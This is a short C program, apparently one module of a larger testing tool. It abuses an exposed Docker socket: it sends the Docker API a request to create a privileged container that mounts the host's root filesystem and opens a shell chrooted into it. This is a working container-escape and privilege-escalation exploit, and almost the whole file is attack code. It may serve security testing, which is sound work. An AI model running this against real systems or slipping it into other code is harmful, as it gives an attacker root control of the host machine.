/* docker-sock (C): the Docker API over its socket: a privileged container
 * with the host's / at /host. */
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "targets.h"

static const char body[] =
    "{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/host\",\"sh\"],"
    "\"HostConfig\":{\"Binds\":[\"/:/host\"],\"Privileged\":true}}";

int main(int argc, char **argv)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	const char *host = getenv("DOCKER_HOST");
	char buf[4096];
	struct pollfd p;
	ssize_t n;
	int fd;

	targets_load(argc, argv);
	if (host && !strncmp(host, "unix://", 7))
		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", host + 7);
	else
		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s",
		         target("T_DOCKER_SOCK"));
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror(sa.sun_path);
		return 1;
	}
	dprintf(
	    fd,
	    "POST /containers/create HTTP/1.0\r\nHost: docker\r\n"
	    "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
	    strlen(body), body);
	p = (struct pollfd){fd, POLLIN, 0};
	if (poll(&p, 1, 3000) > 0 && (n = read(fd, buf, sizeof(buf) - 1)) > 0) {
		buf[n] = '\0';
		fputs(buf, stdout);
	}
	close(fd);
	return 0;
}
